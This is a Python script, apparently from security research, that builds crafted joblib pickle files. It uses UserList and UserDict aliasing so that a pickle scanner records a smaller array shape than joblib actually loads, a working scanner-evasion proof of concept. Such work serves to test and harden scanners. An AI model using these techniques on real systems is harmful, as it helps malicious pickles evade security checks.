# No call touches the shape list. A collections.UserList (a SAFE constructor) is given the
# memoized shape list L as its `data` by a BUILD ({'data': L}); an APPEND opcode on the UserList
# then runs UserList.append, i.e. L.append(2). The scanner records the APPEND as an item of the
# UserList instance and keeps L = [30]; joblib's wrapper has shape [30, 2] and reads 60 bytes.
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
hdr = b'\x80\x02'
hdr += b']' + BINPUT(1) + I(30) + b'a' + b'0'                      # L = [30], memo 1
hdr += G('collections','UserList') + b')R' + b'}' + U('data') + BINGET(1) + b's' + b'b'   # U.data = L
hdr += I(2) + b'a' + b'0'                                           # U.append(2) -> L = [30, 2]
hdr += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + BINGET(1) + U('C') + dtype('u1') + b'\x89NtR}b'
run('c3_userlist_alias.joblib', hdr + region(60, [0, 30]))

# c3b: the same with collections.UserDict over the wrapper's BUILD state dict S = {}: a SETITEM
# on the UserDict runs S['shape'] = [60]. The scanner sees the wrapper's state S = {} and keeps
# the __init__ shape (30,).
hdr = b'\x80\x02'
hdr += b'}' + BINPUT(1) + b'0'                                      # S = {}, memo 1
hdr += G('collections','UserDict') + b')R' + b'}' + U('data') + BINGET(1) + b's' + b'b'
hdr += U('shape') + I(60) + b'\x85' + b's' + b'0'                   # UD['shape'] = (60,) -> S
hdr += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(30) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR' + BINGET(1) + b'b'
run('c3b_userdict_alias.joblib', hdr + region(60, [0, 30]))
